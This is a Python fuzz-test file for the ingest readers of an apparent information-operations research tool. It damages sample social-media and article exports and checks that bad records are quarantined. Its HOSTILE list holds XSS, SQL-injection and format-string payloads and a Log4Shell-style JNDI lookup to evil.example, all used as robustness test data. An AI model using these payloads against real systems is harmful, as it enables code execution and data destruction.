"""Fuzz every reader: damaged input is quarantined record by record, never a crash.

Each format gets a small, realistic seed document built here. Hypothesis then
cuts it short, splices in random or invalid bytes, swaps field values for the
wrong JSON type or a garbage time, adds a multi-megabyte field, writes hostile
strings, or gives one CSV line too many or too few fields, and ingests the
result into an in-memory workspace. The properties checked:

* ``Workspace.ingest`` never raises; a file-level failure is only a one-line
  ``FileReport.error`` that names the file;
* every quarantine row has a reason and a location, and a bounded excerpt;
* in line-oriented files every record around a damaged line is ingested, and
  posts plus quarantined rows account for every record written;
* in JSON documents every record before the damage is ingested;
* hostile text round-trips exactly through ``ws.posts()``; a text field over
  1,000,000 bytes is quarantined with its size and the other records are kept.
"""

from __future__ import annotations

import bz2
import copy
import csv
import gzip
import html
import io
import json
import lzma
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import zstandard
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import infoops
from infoops.ingest import FORMATS, FileReport
from infoops.workspace._schema import INPUT_TABLES as TABLES

# pyarrow decodes an invalid CSV row's bytes before calling the reader's handler; a row cut
# inside a UTF-8 sequence makes that decode fail inside pyarrow (reported as "exception
# ignored"), and the reader then re-reads the file record by record, as the tests check.
pytestmark = pytest.mark.filterwarnings(
    "ignore:Exception ignored in. <function _fast.<locals>.on_invalid"
    ":pytest.PytestUnraisableExceptionWarning"
)

FUZZ = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

N = 4  # records per seed document
T0 = datetime(2024, 3, 1, 12, 0, tzinfo=UTC)
HUGE_CHARS = 3_000_000
EXCERPT_LIMIT = 600  # quarantine excerpts are cut at 500 characters plus a size note

SAMPLE_TEXTS = (
    "Breaking: polling stations moved tonight, share before they delete it! "
    "#Election2024 https://news.example.org/a?id=1",
    "Новости: «независимые» наблюдатели снова молчат #выборы @world_news",
    "Why is nobody talking about this? 🤔 https://bit.ly/3xYzAbc",
    "Same words, different account, same minute. #StopTheLies",
    "Le vrai scandale, c'est le silence des médias. https://example.fr/article/42",
    "Thread 🧵 on the network: 40 accounts, created the same week. cc @carol_news #Disinfo",
)

HOSTILE = (
    "<script>alert(1)</script>",
    "'; DROP TABLE posts; --",
    '"',
    "'",
    '"double" and \'single\' and `back` quotes, and a lone "',
    "line one\nline two\r\nline three\rline four",
    "trailing newline\n",
    "\u202eRTL override\u202c, \u200fRLM\u200e and עברית mixed with العربية",
    "emoji 🧨🇺🇦👩\u200d👩\u200d👧 and skin tones 👍🏽",
    "tab\tseparated,comma;semicolon|pipe",
    'back\\slash \\n \\u0000 \\" not escapes',
    "   leading and trailing spaces   ",
    "${jndi:ldap://evil.example/a} %s%n%x {0} {{}}",
    "NULL",
    "zero\u200bwidth\ufeffBOM inside",
)


def at(i: int) -> datetime:
    return T0 + timedelta(minutes=7 * i, seconds=13 * i)


def iso_ms(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def sample_texts(n: int = N) -> list[str]:
    return [f"{SAMPLE_TEXTS[i % len(SAMPLE_TEXTS)]} [{i}]" for i in range(n)]


# ================================================================ seed documents


@dataclass
class Doc:
    """A file as a header, one byte string per record, and a tail.

    ``texts`` lists, per record, the texts of the posts (or articles) it holds.
    """

    head: bytes
    records: list[bytes]
    tail: bytes
    texts: list[list[str]]

    @property
    def data(self) -> bytes:
        return self.head + b"".join(self.records) + self.tail

    def spans(self) -> list[tuple[int, int]]:
        spans, start = [], len(self.head)
        for record in self.records:
            spans.append((start, start + len(record)))
            start += len(record)
        return spans

    def record_at(self, position: int) -> int | None:
        """The record a byte inserted before ``position`` lands in (None: head or tail)."""
        for index, (start, end) in enumerate(self.spans()):
            if start <= position < end:
                return index
        return None

    def start_line(self, index: int) -> int:
        before = self.head + b"".join(self.records[:index])
        return before.count(b"\n") + 1


def csv_line(cells: list[str]) -> bytes:
    """One CSV record ending in ``\n``; a cell holding ``\r`` or ``\n`` is quoted."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)
    return buffer.getvalue().removesuffix("\r\n").encode("utf-8") + b"\n"


def dumps(value: Any, indent: int | None = None) -> bytes:
    return json.dumps(value, ensure_ascii=False, indent=indent).encode("utf-8")


@dataclass(frozen=True)
class Spec:
    """How to write one format: records from texts, and how the file is laid out."""

    name: str
    kind: str  # "csv", "jsonl", "document" (one JSON value) or "blob" (one article)
    suffix: str
    make: Callable[[int, list[str]], Any]  # record number, its texts -> row or JSON value
    per_record: int = 1  # posts per record (a twarc2 page holds several)
    table: str = "posts"
    mapping: dict[str, str] | None = None
    header: tuple[str, ...] = ()
    text_column: str = ""
    time_column: str = ""
    count_column: str = ""
    wrap: tuple[bytes, bytes] = (b"", b"")  # documents: what comes before and after the items
    indent: int | None = None
    paths: tuple[str, ...] = ()  # JSON fields that may take any wrong value
    required: tuple[str, ...] = ()  # JSON fields whose wrong type must quarantine the record
    stored: Callable[[str], str] = str  # written text -> text as stored

    def objects(self, texts: list[str]) -> tuple[list[Any], list[list[str]]]:
        groups = [texts[i : i + self.per_record] for i in range(0, len(texts), self.per_record)]
        return [self.make(k, group) for k, group in enumerate(groups)], groups

    def serialize(self, objects: list[Any], groups: list[list[str]]) -> Doc:
        if self.kind == "csv":
            return Doc(csv_line(list(self.header)), [csv_line(o) for o in objects], b"", groups)
        if self.kind == "jsonl":
            return Doc(b"", [dumps(o) + b"\n" for o in objects], b"", groups)
        if self.kind == "document":
            items = [dumps(o, self.indent) for o in objects]
            records = [
                item + (b",\n" if i < len(items) - 1 else b"\n") for i, item in enumerate(items)
            ]
            return Doc(self.wrap[0], records, self.wrap[1], groups)
        return Doc(b"", [self.make(0, [t for g in groups for t in g])], b"", groups)

    def doc(self, texts: list[str] | None = None) -> Doc:
        return self.serialize(*self.objects(texts if texts is not None else sample_texts()))

    @property
    def line_oriented(self) -> bool:
        return self.kind in ("csv", "jsonl")


# ---------------------------------------------------------------- CSV formats


def columns(header: str) -> list[str]:
    return header.split(",")


IRA_HEADER = columns(
    "author_id,content,region,language,publish_date,harvested_date,following,followers,"
    "updates,post_type,retweet"
)


def us_time(moment: datetime) -> str:
    return f"{moment.month}/{moment.day}/{moment.year} {moment.hour}:{moment.minute:02d}"


def ira_row(i: int, texts: list[str]) -> list[str]:
    moment = at(i)
    return [
        ("TEN_GOP", "PAMELA_MOORE13", "JENN_ABRAMS")[i % 3],
        texts[0],
        ("United States", "Unknown", "Russian Federation")[i % 3],
        ("English", "Russian", "English")[i % 3],
        us_time(moment),
        us_time(moment + timedelta(minutes=3)),
        str(1052 + i),
        str(9636 * (i + 1)),
        str(253 + i),
        ("", "RETWEET", "")[i % 3],
        ("0", "1", "0")[i % 3],
    ]


IO_HEADER = columns(
    "tweetid,userid,user_display_name,user_screen_name,user_reported_location,"
    "user_profile_description,user_profile_url,follower_count,following_count,"
    "account_creation_date,account_language,tweet_language,tweet_text,tweet_time,"
    "tweet_client_name,in_reply_to_tweetid,in_reply_to_userid,quoted_tweet_tweetid,is_retweet,"
    "retweet_userid,retweet_tweetid,latitude,longitude,quote_count,reply_count,like_count,"
    "retweet_count,hashtags,urls,user_mentions,poll_choices"
)
IO_USERS = (
    ("3f2a1c9e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f", "Patriot Voice"),
    ("9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d", "Вести Сегодня"),
)


def io_row(i: int, texts: list[str]) -> list[str]:
    userid, display = IO_USERS[i % 2]
    retweet = i % 3 == 1
    return [
        str(1_105_000_000_000_000_000 + i),
        userid,
        display,
        userid,  # the archives hash the screen names of small accounts too
        ("Moscow, Russia", "", "Texas, USA")[i % 3],
        "News you won't see on TV, every day",
        "",
        str(2190 + 17 * i),
        str(1504 + i),
        "2016-05-12",
        "en",
        ("en", "ru")[i % 2],
        texts[0],
        at(i).strftime("%Y-%m-%d %H:%M"),
        "Twitter Web Client",
        "",
        "",
        "",
        str(retweet),
        IO_USERS[0][0] if retweet else "",
        "1104999999999999999" if retweet else "",
        "absent",
        "absent",
        "0",
        "1",
        "3",
        "2",
        "[election2024, news]",
        "['https://news.example.org/a']",
        "[]",
        "",
    ]


CT_HEADER = columns(
    "Page Name,User Name,Facebook Id,Page Category,Page Admin Top Country,Page Description,"
    "Page Created,Likes at Posting,Followers at Posting,Post Created,Post Created Date,"
    "Post Created Time,Type,Total Interactions,Likes,Comments,Shares,Love,Wow,Haha,Sad,Angry,"
    "Care,Video Share Status,Is Video Owner?,Post Views,Total Views,"
    "Total Views For All Crossposts,Video Length,URL,Message,Link,Final Link,Image Text,"
    "Link Text,Description,Sponsor Id,Sponsor Name,Sponsor Category,Overperforming Score"
)


def ct_row(i: int, texts: list[str]) -> list[str]:
    page_id = ("100064581234567", "100089912345678")[i % 2]
    name = ("Truth Daily", "Голос Народа")[i % 2]
    local = at(i) - timedelta(hours=5)
    link = f"https://news.example.org/2024/03/{i}"
    return [
        name,
        name.replace(" ", "").lower(),
        page_id,
        "NEWS_SITE",
        ("RU", "US")[i % 2],
        "Independent news, no censorship",
        "2014-02-11 10:12:41",
        str(15000 + i),
        str(16250 + 3 * i),
        local.strftime("%Y-%m-%d %H:%M:%S") + " EST",
        local.strftime("%Y-%m-%d"),
        local.strftime("%H:%M:%S"),
        ("Link", "Status")[i % 2],
        "1,234",
        "900",
        "120",
        "214",
        "0",
        "0",
        "0",
        "0",
        "0",
        "0",
        "",
        "",
        "0",
        "0",
        "0",
        "",
        f"https://www.facebook.com/{page_id}/posts/pfbid0{i}abcDEF",
        texts[0],
        link if i % 2 == 0 else "",
        link if i % 2 == 0 else "",
        "",
        "Read the full story" if i % 2 == 0 else "",
        "",
        "",
        "",
        "",
        "-1.53",
    ]


GENERIC_CSV_HEADER = ("user", "when", "body", "followers", "lang")


def generic_csv_row(i: int, texts: list[str]) -> list[str]:
    return [f"acct_{i % 2}", at(i).isoformat().replace("+00:00", "Z"), texts[0], str(40 + i), "en"]


# ---------------------------------------------------------------- JSON formats

V2_USERS = (
    {
        "id": "1260614382957027328",
        "username": "alice_osint",
        "name": "Alice 🔎",
        "created_at": "2020-05-13T16:22:10.000Z",
        "description": "Open-source investigations",
        "location": "Berlin",
        "public_metrics": {"followers_count": 4210, "following_count": 377, "tweet_count": 15874},
    },
    {
        "id": "954818239401820160",
        "username": "carol_news",
        "name": "Carol",
        "created_at": "2018-01-20T20:01:02.000Z",
        "public_metrics": {"followers_count": 98, "following_count": 1203, "tweet_count": 311},
    },
)


def v2_tweet(i: int, text: str) -> dict[str, Any]:
    tweet_id = str(1_765_000_000_000_000_000 + i)
    return {
        "id": tweet_id,
        "edit_history_tweet_ids": [tweet_id],
        "author_id": V2_USERS[i % 2]["id"],
        "conversation_id": tweet_id,
        "created_at": iso_ms(at(i)),
        "lang": "en",
        "possibly_sensitive": False,
        "reply_settings": "everyone",
        "text": text,
        "entities": {
            "hashtags": [{"start": 0, "end": 13, "tag": "Election2024"}],
            "mentions": [
                {"start": 20, "end": 31, "username": "carol_news", "id": "954818239401820160"}
            ],
            "urls": [
                {
                    "start": 40,
                    "end": 63,
                    "url": "https://t.co/AbC123xyZ",
                    "expanded_url": "https://news.example.org/a?utm_source=twitter",
                    "display_url": "news.example.org/a",
                    "unwound_url": "https://news.example.org/a",
                }
            ],
        },
        "public_metrics": {"retweet_count": i, "reply_count": 0, "like_count": 3, "quote_count": 0},
    }


def v2_page(k: int, texts: list[str]) -> dict[str, Any]:
    tweets = [v2_tweet(2 * k + j, text) for j, text in enumerate(texts)]
    return {
        "data": tweets,
        "includes": {"users": copy.deepcopy(list(V2_USERS))},
        "meta": {
            "newest_id": tweets[0]["id"],
            "oldest_id": tweets[-1]["id"],
            "result_count": len(tweets),
            "next_token": f"b26v89c19zqg8o3f{k}",
        },
        "__twarc": {
            "url": "https://api.twitter.com/2/tweets/search/all?query=%23Election2024",
            "version": "2.14.0",
            "retrieved_at": "2024-03-02T00:00:00+00:00",
        },
    }


def v1_tweet(i: int, texts: list[str]) -> dict[str, Any]:
    tweet_id = 1_050_118_621_198_921_728 + i
    user_id = (987654321, 1049876000111222333)[i % 2]
    return {
        "created_at": at(i).strftime("%a %b %d %H:%M:%S +0000 %Y"),
        "id": tweet_id,
        "id_str": str(tweet_id),
        "full_text": texts[0],
        "truncated": False,
        "display_text_range": [0, len(texts[0])],
        "entities": {
            "hashtags": [{"text": "ElectionWatch", "indices": [68, 82]}],
            "symbols": [],
            "user_mentions": [
                {
                    "screen_name": "DFRLab",
                    "name": "DFRLab",
                    "id": 3091263449,
                    "id_str": "3091263449",
                }
            ],
            "urls": [
                {
                    "url": "https://t.co/xYz123AbCd",
                    "expanded_url": "https://example.com/analysis/network?ref=tw",
                    "display_url": "example.com/analysis/netwo…",
                    "indices": [44, 67],
                }
            ],
        },
        "source": '<a href="https://mobile.twitter.com" rel="nofollow">Twitter Web App</a>',
        "in_reply_to_status_id": None,
        "in_reply_to_status_id_str": None,
        "in_reply_to_user_id": None,
        "in_reply_to_user_id_str": None,
        "user": {
            "id": user_id,
            "id_str": str(user_id),
            "name": ("Dana Analyst", "Frank Facts")[i % 2],
            "screen_name": ("dana_analyst", "frank_facts")[i % 2],
            "location": "Washington, DC",
            "description": "Tracking influence operations.",
            "followers_count": 4210 + i,
            "friends_count": 377,
            "created_at": "Mon Mar 02 14:05:10 +0000 2015",
            "statuses_count": 15874,
        },
        "geo": None,
        "coordinates": None,
        "place": None,
        "is_quote_status": False,
        "retweet_count": 3,
        "favorite_count": 7,
        "lang": "en",
    }


TELEGRAM_CHAT = {"name": "Новости Мира", "type": "public_channel", "id": 1712345678}
TELEGRAM_SERVICE = {
    "id": 40000,
    "type": "service",
    "date": "2024-01-01T14:00:00",
    "date_unixtime": "1704117600",
    "actor": "Новости Мира",
    "actor_id": "channel1712345678",
    "action": "create_channel",
    "title": "Новости Мира",
    "text": "",
    "text_entities": [],
}


def telegram_message(i: int, texts: list[str]) -> dict[str, Any]:
    text = texts[0]
    moment = at(i)
    message: dict[str, Any] = {
        "id": 40001 + i,
        "type": "message",
        "date": (moment + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S"),
        "date_unixtime": str(int(moment.timestamp())),
        "from": TELEGRAM_CHAT["name"],
        "from_id": f"channel{TELEGRAM_CHAT['id']}",
    }
    if i % 2:  # formatted text: a list of plain strings and entity objects
        half = len(text) // 2
        message["text"] = [text[:half], {"type": "bold", "text": text[half:]}]
        message["text_entities"] = [
            {"type": "plain", "text": text[:half]},
            {"type": "bold", "text": text[half:]},
        ]
    else:
        message["text"] = text
        message["text_entities"] = [{"type": "plain", "text": text}]
    if i % 3 == 2:
        message["forwarded_from"] = "Другой канал"
        message["photo"] = f"photos/photo_{i}@01-03-2024_12-00-00.jpg"
    return message


BSKY_AUTHORS = (
    ("did:plc:u5cwb2mwiv2bfq53cjufe6yn", "alice.bsky.social", "Alice 🦋"),
    ("did:plc:7xk4n2rq3jzt6m5pvyw2adhe", "carol.bsky.social", "Carol"),
)


def bluesky_item(i: int, texts: list[str]) -> dict[str, Any]:
    did, handle, display = BSKY_AUTHORS[i % 2]
    return {
        "post": {
            "uri": f"at://{did}/app.bsky.feed.post/3kskvz4ruyc2{i}",
            "cid": f"bafyreie5737gdxlw5i64vzichcalba3z2v5n6icifvx5xytvske7mr3hp{i}",
            "author": {
                "did": did,
                "handle": handle,
                "displayName": display,
                "labels": [],
                "createdAt": "2023-04-20T12:00:00.000Z",
            },
            "record": {
                "$type": "app.bsky.feed.post",
                "createdAt": iso_ms(at(i)),
                "facets": [
                    {
                        "$type": "app.bsky.richtext.facet",
                        "features": [
                            {
                                "$type": "app.bsky.richtext.facet#link",
                                "uri": "https://example.org/r",
                            }
                        ],
                        "index": {"byteEnd": 8, "byteStart": 0},
                    }
                ],
                "langs": ["en"],
                "text": texts[0],
            },
            "replyCount": 1,
            "repostCount": 4,
            "likeCount": 17,
            "quoteCount": 0,
            "indexedAt": iso_ms(at(i) + timedelta(seconds=2)),
            "labels": [],
        }
    }


def mastodon_status(i: int, texts: list[str]) -> dict[str, Any]:
    user, host = (("alice", "mastodon.social"), ("bob", "fosstodon.org"))[i % 2]
    status_id = str(112_345_670_000_000_001 + i)
    return {
        "id": status_id,
        "created_at": iso_ms(at(i)),
        "in_reply_to_id": None,
        "in_reply_to_account_id": None,
        "sensitive": False,
        "spoiler_text": "",
        "visibility": "public",
        "language": "en",
        "uri": f"https://{host}/users/{user}/statuses/{status_id}",
        "url": f"https://{host}/@{user}/{status_id}",
        "replies_count": 0,
        "reblogs_count": 2,
        "favourites_count": 5,
        "edited_at": None,
        "content": f"<p>{html.escape(texts[0])}</p>",
        "reblog": None,
        "account": {
            "id": str(109_302_436_954_721_982 + i % 2),
            "username": user,
            "acct": user,
            "display_name": user.title(),
            "created_at": "2022-11-07T00:00:00.000Z",
            "note": "<p>Fediverse researcher</p>",
            "url": f"https://{host}/@{user}",
            "followers_count": 321,
            "following_count": 123,
            "statuses_count": 4567,
        },
        "media_attachments": [],
        "mentions": [],
        "tags": [{"name": "election2024", "url": f"https://{host}/tags/election2024"}],
        "emojis": [],
        "card": None,
        "poll": None,
    }


def article(i: int, texts: list[str]) -> dict[str, Any]:
    return {
        "url": f"https://news.example.org/2024/03/01/story-{i}?utm_source=feed",
        "title": f"Story {i}: what the leaked documents show",
        "text": texts[0],
        "published_at": at(i).isoformat(),
        "author": ["Jane Reporter", "Ivan Petrov"][: 1 + i % 2],
        "lang": "en",
        "source": "news.example.org",
    }


GENERIC_JSON_MAPPING = {
    "post_id": "id",
    "account_id": "user.id",
    "account_name": "user.name",
    "created_at": "ts",
    "text": "body",
    "followers": "user.followers",
    "hashtags": "tags",
}


def generic_record(i: int, texts: list[str]) -> dict[str, Any]:
    return {
        "id": f"p{1000 + i}",
        "user": {"id": f"u{i % 2}", "name": ("watcher", "repost_bot")[i % 2], "followers": 120 + i},
        "ts": (at(i) + timedelta(hours=3)).isoformat().replace("+00:00", "+03:00"),
        "body": texts[0],
        "tags": ["election2024"],
    }


def own_names_record(i: int, texts: list[str]) -> dict[str, Any]:
    """A post already named as infoops names its fields (read without --map)."""
    return {
        "post_id": f"p{2000 + i}",
        "account_id": f"u{i % 2}",
        "account_name": ("watcher", "repost_bot")[i % 2],
        "created_at": at(i).isoformat(),
        "text": texts[0],
        "hashtags": ["election2024"],
        "followers": 120 + i,
    }


def html_page(_k: int, texts: list[str]) -> bytes:
    paragraphs = "\n".join(f"<p>{html.escape(text)}</p>" for text in texts)
    return (
        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8">'
        "<title>What the leaked documents show | Example News</title>"
        '<meta property="og:url" content="https://news.example.org/2024/03/01/leaks">'
        '<meta name="author" content="Jane Reporter">'
        '<meta property="article:published_time" content="2024-03-01T12:00:00Z">'
        "<script>window.tracker = {id: 42};</script></head>\n<body><nav>Home | World | Politics"
        "</nav><article><h1>What the leaked documents show</h1>\n"
        f"{paragraphs}\n<p>The documents were shared with several newsrooms, which verified "
        "them independently against public records and interviews.</p></article>"
        "<footer>© 2024 Example News</footer></body></html>\n"
    ).encode()


def text_article(_k: int, texts: list[str]) -> bytes:
    return ("What the leaked documents show\n\n" + "\n\n".join(texts) + "\n").encode()


SPECS = {
    spec.name: spec
    for spec in (
        Spec(
            "ira-csv",
            "csv",
            ".csv",
            ira_row,
            header=tuple(IRA_HEADER),
            text_column="content",
            time_column="publish_date",
            count_column="followers",
        ),
        Spec(
            "twitter-io-csv",
            "csv",
            ".csv",
            io_row,
            header=tuple(IO_HEADER),
            text_column="tweet_text",
            time_column="tweet_time",
            count_column="follower_count",
        ),
        Spec(
            "crowdtangle-csv",
            "csv",
            ".csv",
            ct_row,
            header=tuple(CT_HEADER),
            text_column="Message",
            time_column="Post Created",
            count_column="Followers at Posting",
        ),
        Spec(
            "csv",
            "csv",
            ".csv",
            generic_csv_row,
            mapping={
                "account_id": "user",
                "created_at": "when",
                "text": "body",
                "followers": "followers",
                "lang": "lang",
            },
            header=GENERIC_CSV_HEADER,
            text_column="body",
            time_column="when",
            count_column="followers",
        ),
        Spec(
            "twitter-v2",
            "jsonl",
            ".jsonl",
            v2_page,
            per_record=2,
            paths=(
                "includes",
                "includes.users",
                "includes.users.0",
                "data.0.entities",
                "data.0.entities.urls",
                "data.0.entities.hashtags.0",
                "data.0.referenced_tweets",
                "data.0.public_metrics",
                "data.0.lang",
                "data.1.in_reply_to_user_id",
                "meta",
            ),
            required=("data", "data.0.id", "data.0.author_id", "data.0.created_at", "data.1.text"),
        ),
        Spec(
            "twitter-v1",
            "jsonl",
            ".jsonl",
            v1_tweet,
            paths=(
                "id",
                "user.id_str",
                "user.screen_name",
                "user.followers_count",
                "user.created_at",
                "entities",
                "entities.hashtags",
                "entities.urls.0",
                "retweeted_status",
                "quoted_status",
                "extended_tweet",
                "lang",
                "in_reply_to_status_id_str",
            ),
            required=("id_str", "user", "created_at", "full_text"),
        ),
        Spec(
            "telegram",
            "document",
            ".json",
            telegram_message,
            wrap=(
                dumps(TELEGRAM_CHAT, 1)[:-2]
                + b',\n "messages": [\n'
                + dumps(TELEGRAM_SERVICE, 1)
                + b",\n",
                b" ]\n}\n",
            ),
            indent=1,
            paths=(
                "date",
                "from",
                "text_entities",
                "text_entities.0",
                "reply_to_message_id",
                "forwarded_from",
                "photo",
            ),
            required=("id", "type", "date_unixtime", "from_id", "text"),
        ),
        Spec(
            "bluesky",
            "document",
            ".json",
            bluesky_item,
            wrap=(b'{\n "feed": [\n', b' ],\n "cursor": "2024-03-01T11:00:00.000Z"\n}\n'),
            paths=(
                "post.record",
                "post.record.text",
                "post.record.facets",
                "post.record.langs",
                "post.record.embed",
                "post.record.reply",
                "post.indexedAt",
                "post.author.handle",
                "post.author.followersCount",
                "reason",
            ),
            required=(
                "post",
                "post.uri",
                "post.author",
                "post.author.did",
                "post.record.createdAt",
            ),
        ),
        Spec(
            "mastodon",
            "document",
            ".json",
            mastodon_status,
            wrap=(b"[\n", b"]\n"),
            paths=(
                "id",
                "account.id",
                "account.followers_count",
                "account.note",
                "tags",
                "mentions",
                "reblog",
                "quote",
                "spoiler_text",
                "language",
                "in_reply_to_id",
            ),
            required=("uri", "account", "account.acct", "created_at", "content"),
            stored=str.strip,
        ),
        Spec(
            "article-jsonl",
            "jsonl",
            ".jsonl",
            article,
            table="articles",
            paths=("url", "published_at", "author", "lang"),
            required=("title", "text"),
        ),
        Spec(
            "jsonl",
            "jsonl",
            ".jsonl",
            generic_record,
            mapping=GENERIC_JSON_MAPPING,
            paths=("id", "user.id", "user.name", "user.followers", "tags", "body"),
            required=("user", "ts"),
        ),
        Spec(
            "posts-jsonl",
            "jsonl",
            ".jsonl",
            own_names_record,
            paths=("post_id", "account_name", "text", "hashtags", "followers"),
            required=("account_id", "created_at"),
        ),
        Spec("article-html", "blob", ".html", html_page, table="articles"),
        Spec("article-text", "blob", ".txt", text_article, table="articles"),
    )
}
ALL = sorted(SPECS)
CSV_FORMATS = sorted(name for name, spec in SPECS.items() if spec.kind == "csv")
JSON_FORMATS = sorted(name for name, spec in SPECS.items() if spec.kind in ("jsonl", "document"))
RECORD_FORMATS = sorted(name for name, spec in SPECS.items() if spec.kind != "blob")
POST_FORMATS = sorted(name for name, spec in SPECS.items() if spec.table == "posts")


def test_every_reader_has_a_seed():
    assert set(SPECS) == {fmt.name for fmt in FORMATS}


# ================================================================ running an ingest


@dataclass
class Outcome:
    file: FileReport
    posts: list[Any]  # stored post texts, via ws.posts()
    articles: list[Any]  # stored article texts, via ws.articles()
    quarantine: list[tuple[Any, ...]] = field(default_factory=list)

    def stored(self, table: str) -> Counter:
        return Counter(self.posts if table == "posts" else self.articles)


@dataclass
class Bench:
    """A directory for the damaged files and one in-memory workspace, emptied per ingest."""

    directory: Path
    ws: infoops.Workspace


@pytest.fixture(scope="module")
def fuzz(tmp_path_factory: pytest.TempPathFactory):
    with infoops.Workspace(memory=True) as ws:
        yield Bench(tmp_path_factory.mktemp("fuzz"), ws)


def write(bench: Bench, name: str, data: bytes) -> Path:
    path = bench.directory / name
    path.write_bytes(data)
    return path


def ingest(
    bench: Bench,
    path: Path,
    *,
    fmt: str | None = None,
    mapping: dict[str, str] | None = None,
    frames: bool = False,
) -> Outcome:
    """Ingest one file into an empty workspace and check what holds for any input.

    Stored texts are read with SQL, or with ``frames`` through ``ws.posts()`` and
    ``ws.articles()`` as a user reads them.
    """
    ws = bench.ws
    for table in TABLES:
        ws.con.execute(f"DELETE FROM {table}")
    report = ws.ingest([path], mapping=mapping, format=fmt)  # must never raise
    assert len(report.files) == 1
    file = report.files[0]
    if file.error is not None:
        assert isinstance(file.error, str) and file.error.strip()
        assert "\n" not in file.error, file.error
        assert str(path) in file.error, file.error
        assert file.posts_added == file.articles_added == file.quarantined == 0
    rows = ws.con.execute(
        "SELECT source_file, line, location, reason, raw_excerpt FROM quarantine"
    ).fetchall()
    for source_file, line, location, reason, raw_excerpt in rows:
        assert source_file == str(path)
        assert isinstance(reason, str) and reason.strip(), rows
        assert isinstance(location, str) and location.strip(), rows
        assert line is None or line >= 1
        assert raw_excerpt is None or len(raw_excerpt) <= EXCERPT_LIMIT
    assert len(rows) == file.quarantined
    if frames:
        posts, articles = ws.posts()["text"].tolist(), ws.articles()["text"].tolist()
    else:
        posts = [text for (text,) in ws.con.execute("SELECT text FROM posts").fetchall()]
        articles = [text for (text,) in ws.con.execute("SELECT text FROM articles").fetchall()]
    assert len(posts) == file.posts_added and len(articles) == file.articles_added
    return Outcome(file, posts, articles, rows)


def run(
    bench: Bench, spec: Spec, data: bytes, *, forced: bool = True, frames: bool = False
) -> Outcome:
    path = write(bench, f"{spec.name}{spec.suffix}", data)
    return ingest(
        bench, path, fmt=spec.name if forced else None, mapping=spec.mapping, frames=frames
    )


def assert_kept(outcome: Outcome, spec: Spec, doc: Doc, skip: set[int] | None = None) -> None:
    """Every post of every record not in ``skip`` is stored, with its text intact."""
    expected = Counter(
        spec.stored(text)
        for index, texts in enumerate(doc.texts)
        if index not in (skip or set())
        for text in texts
    )
    missing = expected - outcome.stored(spec.table)
    assert not missing, f"lost records: {list(missing)}; quarantine: {outcome.quarantine}"


def added(outcome: Outcome, spec: Spec) -> int:
    file = outcome.file
    return (file.posts_added if spec.table == "posts" else file.articles_added) + file.duplicates


def for_each(names: list[str], **arguments: Any):
    """Explicit examples: run the property once on every format in ``names`` first."""

    def decorate(test):
        for name in reversed(names):
            test = example(name=name, **arguments)(test)
        return test

    return decorate


# ================================================================ the seeds themselves


@pytest.mark.parametrize("name", ALL)
def test_seed_reads_cleanly(fuzz: Bench, name: str):
    spec = SPECS[name]
    doc = spec.doc()
    outcome = run(fuzz, spec, doc.data)
    assert outcome.file.error is None
    assert outcome.file.quarantined == outcome.file.duplicates == 0, outcome.quarantine
    if spec.kind == "blob":
        assert outcome.file.articles_added == 1
    else:
        assert added(outcome, spec) == N
        assert_kept(outcome, spec, doc)
    # Recognised by content as well.
    assert run(fuzz, spec, doc.data, forced=False).file.format == name


# ================================================================ (1) truncation


@for_each(ALL, fraction=0.5)
@FUZZ
@given(name=st.sampled_from(ALL), fraction=st.floats(0, 1))
def test_truncated_file(fuzz: Bench, name: str, fraction: float):
    spec = SPECS[name]
    doc = spec.doc()
    data = doc.data
    cut = round(fraction * len(data))
    outcome = run(fuzz, spec, data[:cut])
    file = outcome.file
    if spec.kind == "blob":
        assert file.error is None
        assert file.articles_added + file.quarantined == 1
        return
    spans = doc.spans()
    whole = {k for k, (_, end) in enumerate(spans) if end <= cut}
    if file.error is not None:  # only a cut header may make the file unreadable
        assert spec.kind == "csv" and cut < len(doc.head), file.error
        return
    assert_kept(outcome, spec, doc, skip=set(range(len(spans))) - whole)
    partial = [k for k, (start, end) in enumerate(spans) if start < cut < end]
    if spec.line_oriented:
        # Complete lines are all read; a cut-off last line is a post or one problem.
        started = bool(partial) and data[spans[partial[0]][0] : cut].strip() != b""
        posts = added(outcome, spec)
        if spec.per_record == 1:
            assert posts + file.quarantined == len(whole) + started
        else:
            assert spec.per_record * len(whole) <= posts <= spec.per_record * (len(whole) + 1)
            assert file.quarantined <= 1
            assert posts > spec.per_record * len(whole) or file.quarantined == started
    elif data[:cut].strip() and cut < len(data.rstrip()):
        # A JSON document cut short always says so.
        assert file.quarantined >= 1
        assert any("JSON" in reason for *_, reason, _ in outcome.quarantine), outcome.quarantine


# ================================================================ (2) random, invalid and NUL bytes

JUNK = st.one_of(
    st.binary(min_size=1, max_size=12),
    st.sampled_from(
        [
            b"\x00",
            b"\x00\x00\x00\x00",
            b"\xff",
            b"\xc3\x28",  # a broken two-byte sequence
            b"\xed\xa0\x80",  # an encoded surrogate
            b"\xf0\x9f\x98",  # a cut-off emoji
            b"\xef\xbb\xbf",  # a stray byte-order mark
            b"\x1b[31m",
            b"\\",
            b"{",
            b"]",
            b",",
        ]
    ),
)


def clean_junk(junk: bytes, spec: Spec) -> bytes:
    """No line breaks (they would make two records of one); for CSV, no quote either."""
    removed = b'\n\r"' if spec.kind == "csv" else b"\n"
    for byte in removed:
        junk = junk.replace(bytes([byte]), b"")
    return junk or b"\x00"


@example(name="twitter-v2", fraction=0.0, junk=b"\xff")  # a broken first line
@example(name="article-jsonl", fraction=0.0, junk=b"[")
@for_each(ALL, fraction=0.5, junk=b"\xff\x00")
@FUZZ
